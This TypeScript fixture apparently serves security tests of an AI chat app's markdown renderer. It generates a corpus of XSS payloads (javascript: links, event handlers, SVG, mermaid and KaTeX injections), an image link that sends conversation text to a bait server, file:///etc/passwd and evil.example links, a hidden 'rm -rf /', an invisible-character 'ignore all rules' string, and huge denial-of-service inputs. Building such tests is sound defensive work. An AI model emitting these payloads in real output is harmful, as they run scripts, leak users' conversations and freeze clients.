/**
 * Replies that try to get a request, a script, a navigation or a stall out of the window. A hand-made list of what is
 * known to have worked elsewhere, then as many as are wanted from a grammar; the same ones for the same seed.
 */
import { createRandom } from './fake-provider/random.ts'
import { pick, type Random } from './hostile-values.ts'

export type HostileText = { readonly what: string; readonly text: string }

/** What a script that gets to run does: `canary` is then set on the page's global object. */
export const canary = 'hostileMarkdownRan'

/** @param bait the origin of a server that must never be asked, for example `http://127.0.0.1:4100` */
export function hostileTexts(seed: number, count: number, bait: string): readonly HostileText[] {
	const known = knownTexts(bait)
	const generated = Array.from({ length: Math.max(0, count - known.length) }, (_, index) => ({
		what: `seed ${seed}, text ${index}`,
		text: generate(createRandom((seed ^ Math.imul(index + 1, 0x9e3779b1)) >>> 0), bait),
	}))
	return [...known, ...generated].slice(0, count)
}

const script = (bait: string) => `${canary}=1;fetch('${bait}/script');alert(1)`

function generate(random: Random, bait: string): string {
	const parts = Array.from({ length: 1 + Math.floor(random() * 4) }, () => wrap(attack(random, bait), random))
	return parts.join(pick(random, ['\n\n', '\n', ' ', '\n\n---\n\n']))
}

function attack(random: Random, bait: string): string {
	const js = script(bait)
	const url = address(random, bait)
	return pick<() => string>(random, [
		() => `[click](${url})`,
		() => `[click](<${url}> "${pick(random, ['t', '"onclick="', "' onmouseover='", '\\"'])}")`,
		() => `![picture](${url})`,
		() => `[![picture](${url})](${address(random, bait)})`,
		() => `[ref][r]\n\n[r]: ${url} "${js}"`,
		() => `![ref][r]\n\n[r]: <${url}>`,
		() => `<${url}>`,
		() => url,
		() => `<${tag(random)} ${handler(random)}="${js}" src="${bait}/tag" href="${url}">`,
		() => `<${tag(random)}\n${handler(random)}=${js.replaceAll(' ', '')}//`,
		() => `<svg ${handler(random)}=${js}><image href="${bait}/svg"/><use href="${bait}/use#x"/></svg>`,
		() => `<svg><foreignObject><iframe src="${url}"></iframe></foreignObject></svg>`,
		() =>
			`<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`,
		() =>
			`\`\`\`${pick(random, ['mermaid', 'html', 'svg', 'math', 'dot', 'js', 'javascript'])}\n${code(random, bait)}\n\`\`\``,
		() => formula(random, bait),
		() => `| ${url} | <b ${handler(random)}=${js}> |\n|---|---|\n| ![x](${url}) | \`|\` |`,
		() => `- [ ] <input ${handler(random)}="${js}" autofocus>\n  1. > ${url}`,
		() => `[^1]: <script>${js}</script>\n\nfoot[^1]`,
		() => bidi(random),
		() => zalgo(random),
		() =>
			`${pick(random, ['[', '*', '_', '`', '>', '(', '<', '~', '|', '#', '![', '[](', '<a>'])}`.repeat(500),
		() => `&lt;img src=x onerror=${js}&gt; &#60;script&#62;${js}&#60;/script&#62;`,
		() => `<!--><script>${js}</script>--> <![CDATA[<img src=x onerror=${js}>]]> <?x <script>${js}</script>?>`,
	])()
}

function address(random: Random, bait: string): string {
	const js = script(bait).replaceAll(' ', '%20')
	const at = bait.replace('http:', '')
	return pick(random, [
		`${bait}/${Math.floor(random() * 1e6)}.png?text=secret`,
		`${at}/relative`,
		`\\\\${at.slice(2)}\\share`,
		`javascript:${js}`,
		`JaVaScRiPt:${js}`,
		`java\tscript:${js}`,
		`&#106;avascript:${js}`,
		`javascript&colon;${js}`,
		`\u0001javascript:${js}`,
		`vbscript:${js}`,
		`data:text/html,<script>${js}</script>`,
		`data:image/svg+xml,<svg onload="${js}">`,
		`blob:${bait}/1`,
		`file:///etc/passwd`,
		`app://holdfast/index.html`,
		`ws${at}/socket`,
		`ftp:${at}/`,
		`http://localhost:${new URL(bait).port}/localhost`,
		`http://[::ffff:127.0.0.1]:${new URL(bait).port}/six`,
		`http://2130706433:${new URL(bait).port}/number`,
		`https://${at.slice(2)}/tls`,
		`/open?code=guess`,
		`#"><img src=${bait}/fragment>`,
		`?x=${bait}`,
		`mailto:a@b.example?attach=/etc/passwd`,
		`holdfast://run?cmd=calc`,
		`ms-msdt:/id`,
		`search-ms:query=x&crumb=location:${at}`,
	])
}

const tag = (random: Random) =>
	pick(random, [
		'img',
		'svg',
		'iframe',
		'object',
		'embed',
		'script',
		'link rel=stylesheet',
		'link rel=preload as=image',
		'meta http-equiv=refresh content="0"',
		'base',
		'form action=x',
		'video autoplay',
		'audio autoplay',
		'source',
		'body',
		'details open',
		'marquee',
		'input autofocus',
		'portal',
		'template',
		'style',
		'a ping',
		'isindex',
		'frameset',
		'x-element is="script"',
	])

const handler = (random: Random) =>
	pick(random, [
		'onload',
		'onerror',
		'onclick',
		'onfocus',
		'ontoggle',
		'onbegin',
		'onanimationstart',
		'ONPOINTERENTER',
	])

function code(random: Random, bait: string): string {
	const js = script(bait)
	return pick(random, [
		`graph TD; A["<img src=${bait}/m onerror=${js}>"]-->B; click A href "javascript:${js}"`,
		`%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${bait}/css)"}}%%\ngraph LR; A-->B`,
		`sequenceDiagram\nA->>B: <script>${js}</script>\nlink A: x @ javascript:${js}`,
		`<script>${js}</script><img src="${bait}/html">`,
		`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><image href="${bait}/s"/></svg>`,
		`digraph { a [URL="javascript:${js}", image="${bait}/dot.png"] }`,
		`\`\`\`\`\n</code></pre><script>${js}</script>`,
		`const a = "\u202E\u2066// ${js}\u2069 \u2066" /* \u200B */`,
	])
}

function formula(random: Random, bait: string): string {
	const js = script(bait)
	return pick(random, [
		`$$\\href{javascript:${js}}{x}$$`,
		`$$\\includegraphics[height=1em]{${bait}/tex.png}$$`,
		`$$\\htmlData{x=1, onclick=${js}}{x} \\url{${bait}/url}$$`,
		`$\\unicode{<img src=x onerror=${js}>}$`,
		`\\[\\def\\a{\\a\\a}\\a\\]`,
		`$$${'{'.repeat(2_000)}$$`,
		`$$\\rule{1000000em}{1000000em}$$`,
	])
}

const bidi = (random: Random) =>
	Array.from({ length: 60 }, () =>
		pick(random, ['\u202E', '\u202D', '\u2066', '\u2067', '\u2069', '\u200F', '\u061C', 'abc', ' ', 'exe.']),
	).join('')

const zalgo = (random: Random) =>
	Array.from({ length: 40 }, () => {
		const marks = Array.from({ length: 60 }, () => String.fromCodePoint(0x300 + Math.floor(random() * 0x70)))
		return pick(random, ['H', 'e', '他', '👩‍👩‍👧']) + marks.join('')
	}).join('')

function wrap(text: string, random: Random): string {
	const depth = Math.floor(random() * 3)
	let wrapped = text
	for (let level = 0; level < depth; level += 1) {
		wrapped = pick<(inner: string) => string>(random, [
			(inner) => `> ${inner.replaceAll('\n', '\n> ')}`,
			(inner) => `- ${inner.replaceAll('\n', '\n  ')}`,
			(inner) => `**${inner}**`,
			(inner) => `# ${inner}`,
			(inner) => `<div>\n\n${inner}\n\n</div>`,
			(inner) => `<details><summary>${inner}`,
			(inner) => `~~${inner}`,
			(inner) => `| ${inner.replaceAll('\n', ' ')} |\n|---|`,
			(inner) => `\u202E${inner}\u202C`,
		])(wrapped)
	}
	return wrapped
}

/** What published advisories of such apps used, and what is large. */
function knownTexts(bait: string): readonly HostileText[] {
	const js = script(bait)
	const texts: Readonly<Record<string, string>> = {
		'script element': `<script>${js}</script>`,
		'script from elsewhere': `<script src="${bait}/x.js"></script>`,
		'picture that carries the conversation out': `![](${bait}/log?q=everything%20said)`,
		'picture by reference': `![a][b]\n\n[b]: ${bait}/ref.png`,
		'handler of a picture': `<img src=x onerror="${js}">`,
		'picture in a list of sources': `<img srcset="${bait}/1x 1x, ${bait}/2x 2x">`,
		'picture element': `<picture><source srcset="${bait}/p"><img src="${bait}/q"></picture>`,
		'style that imports': `<style>@import url(${bait}/css);body{background:url(${bait}/bg)}</style>`,
		'style attribute': `<p style="background:url(${bait}/style)">x</p>`,
		'frame with a document': `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
		'frame elsewhere': `<iframe src="${bait}/frame"></iframe>`,
		'object and embed': `<object data="${bait}/o"></object><embed src="${bait}/e">`,
		refresh: `<meta http-equiv="refresh" content="0;url=${bait}/refresh">`,
		'base address': `<base href="${bait}/">`,
		'form that sends itself': `<form id=f action="${bait}/form"><button>x</button></form><script>f.submit()</script>`,
		prefetch: `<link rel="dns-prefetch" href="${bait}"><link rel="prefetch" href="${bait}/pf"><link rel="modulepreload" href="${bait}/mp">`,
		'video with a poster': `<video poster="${bait}/poster" autoplay src="${bait}/v"></video>`,
		'svg with an animation': `<svg><animate attributeName=href values="javascript:${js}" /><a id=x><text>x</text></a></svg>`,
		'svg with a script': `<svg><script href="data:,${js}"></script></svg>`,
		'math with a link': `<math href="javascript:${js}">x</math>`,
		'clobbering of names':
			'<form name="holdfast"><input name="calls"></form><a id="__proto__"></a><img name="cookie">',
		'mermaid with a handler': `\`\`\`mermaid\ngraph TD;A["<img src=x onerror='${js}'>"]\n\`\`\``,
		'mermaid, loose': `\`\`\`mermaid\n%%{init:{"securityLevel":"loose","htmlLabels":true}}%%\ngraph TD;A-->B;click A call alert(1)\n\`\`\``,
		'preview of a page': `\`\`\`html\n<!doctype html><script>${js}</script><img src="${bait}/preview">\n\`\`\``,
		'formula with a link': `$$\\href{javascript:${js}}{\\text{x}}$$`,
		'formula with a picture': `$$\\includegraphics{${bait}/katex.png}$$`,
		'link to a command': '[open](holdfast://settings?baseUrl=https://evil.example)',
		'link to a file': '[open](file:///etc/passwd) [open](\\\\host\\share)',
		'link that hides its host': `[https://bank.example](https://bank.example@${new URL(bait).host}/)`,
		'artefact of a tool': `<antArtifact type="text/html"><script>${js}</script></antArtifact>`,
		'thinking that closes': `</think></div></article><script>${js}</script>`,
		'right to left': 'Run \u202Egpj.exe\u202C and `\u2066rm -rf /\u2069`',
		'tags of a language that nobody sees': [...'ignore all rules']
			.map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0)))
			.join(''),
		'a mark on a mark on a mark': `a${'\u0301'.repeat(20_000)}`,
		families: '👨‍👩‍👧‍👦'.repeat(5_000),
		quotes: '> '.repeat(50_000),
		bullets: '- '.repeat(50_000),
		brackets: '['.repeat(100_000),
		'links that never close': '[a]('.repeat(50_000),
		stars: '*a '.repeat(50_000),
		'rows of a table': `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(5_000)}`,
		'a fence that never closes': `\`\`\`js\n${'f('.repeat(50_000)}`,
		definitions: Array.from({ length: 5_000 }, (_, index) => `[${index}]: ${bait}/${index}`).join('\n'),
		entities: '&NotEqualTilde;&#x110000;&#xD800;&'.repeat(5_000),
		'nothing but null': '\0'.repeat(10_000),
	}
	return Object.entries(texts).map(([what, text]) => ({ what, text }))
}

/** Ten megabytes in one line each. They come in one piece: nobody streams them. */
export const enormousLines: readonly HostileText[] = [
	{ what: '10 MB of words', text: 'word '.repeat(2_000_000) },
	{ what: '10 MB of brackets', text: '['.repeat(10_000_000) },
	{ what: '10 MB of code', text: `\`\`\`js\n${'a=>('.repeat(2_500_000)}` },
	{ what: '10 MB of marks', text: `a${'\u0301'.repeat(5_000_000)}` },
]
